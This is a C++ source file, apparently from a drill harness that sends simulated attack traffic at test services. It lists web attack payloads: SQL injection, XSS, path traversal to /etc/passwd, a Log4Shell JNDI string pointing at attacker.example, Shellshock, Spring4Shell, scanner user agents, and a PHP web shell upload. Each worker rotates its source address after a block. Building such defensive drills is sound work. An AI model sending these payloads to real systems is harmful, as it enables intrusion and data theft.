#include "drill/attempts.hpp"

#include <array>
#include <boost/asio/co_spawn.hpp>
#include <boost/asio/detached.hpp>
#include <boost/asio/steady_timer.hpp>

#include "drill/citizens.hpp"

namespace kulla::drill {
namespace {
using namespace std::chrono;
constexpr auto token = asio::as_tuple(asio::use_awaitable);
constexpr std::size_t workers = 8;

struct Kind {
  http::verb verb;
  std::string_view target, agent, body, header, value;
};
constexpr std::string_view browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/103.0.0.0 Safari/537.36";
constexpr std::string_view form = "application/x-www-form-urlencoded";
constexpr std::string_view script = "script";  // marks the refused upload, whose form is made by upload_of
constexpr std::array<Kind, 16> all{{
    {http::verb::get, "search?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20", browser, "", "", ""},
    {http::verb::get, "search?q=%3Cscript%3Ealert(1)%3C/script%3E", browser, "", "", ""},
    {http::verb::get, "assets/..%2f..%2f..%2fetc/passwd", browser, "", "", ""},
    {http::verb::get, "uploads/shell.php?cmd=id", browser, "", "", ""},
    {http::verb::post, "login", browser, "user=admin&password=123456", "Content-Type", form},
    {http::verb::get, "?x=${jndi:ldap://attacker.example/a}", browser, "", "", ""},
    {http::verb::post, "upload", browser, script, "", ""},
    {http::verb::get, ".git/config", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "", "", ""},
    {http::verb::get, "wp-login.php", "WPScan v3.8.22 (https://wpscan.org/)", "", "", ""},
    {http::verb::get, "search?q=1%27%20AND%20SLEEP(5)--", "sqlmap/1.6.7#stable (https://sqlmap.org)", "", "", ""},
    {http::verb::get, ".env", "python-requests/2.28.1", "", "", ""},
    {http::verb::get, "cgi-bin/test.cgi", "() { :;}; echo vulnerable", "", "", ""},
    {http::verb::post, "login", browser, "user=root&password=qwerty", "Content-Type", form},
    {http::verb::get, "index.php?page=php://filter/convert.base64-encode/resource=config", browser, "", "", ""},
    {http::verb::get, "aspnet_client/error5.aspx", browser, "", "", ""},
    {http::verb::get, "?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di", browser, "", "", ""},
}};
}  // namespace

std::size_t Attempts::kinds() { return all.size(); }

Ask Attempts::attempt(const PlannedService& service, std::size_t n) {
  const auto& kind = all.at(n % all.size());
  if (kind.body == script) {
    // The weak form would take a script: there the attempt stays what it is for all others, a harmless file.
    const bool weak = service.weak;
    return upload_of(service.host, below(service, "upload"), weak ? "holiday.png" : "shell.php",
                     weak ? "not a picture" : "<?php system($_GET['c']); ?>");
  }
  Ask ask{.verb = kind.verb,
          .host = service.host,
          .target = below(service, kind.target),
          .body = std::string(kind.body),
          .agent = std::string(kind.agent),
          .headers = {}};
  if (!kind.header.empty()) ask.headers.emplace_back(kind.header, kind.value);
  return ask;
}

void Attempts::start(asio::any_io_executor executor, std::size_t per_second) {
  const microseconds pause{1'000'000 * workers / per_second};
  for (std::size_t worker = 0; worker < workers; ++worker) asio::co_spawn(executor, go_on(worker, pause), asio::detached);
}

asio::awaitable<void> Attempts::go_on(std::size_t worker, microseconds pause) {
  Client client{co_await asio::this_coro::executor, gate_, address_of(Crowd::attempts, next_address_++)};
  asio::steady_timer timer{co_await asio::this_coro::executor};
  timer.expires_after(pause * worker / workers);
  co_await timer.async_wait(token);
  for (;;) {
    // Every service in turn; the kind moves on by one each round, so that in time every service sees every kind.
    const auto turn = turn_++, service = turn % plan_.services.size();
    const Ask ask = attempt(plan_.services[service], turn / plan_.services.size() + service);
    const Answer answer = co_await client.ask(ask);
    log_.add(record_of(Who::attempt, service, client.from(), answer));
    if (!answer.by_service() && !answer.notice()) client.become(address_of(Crowd::attempts, next_address_++));
    timer.expires_after(pause);
    co_await timer.async_wait(token);
  }
}
}  // namespace kulla::drill
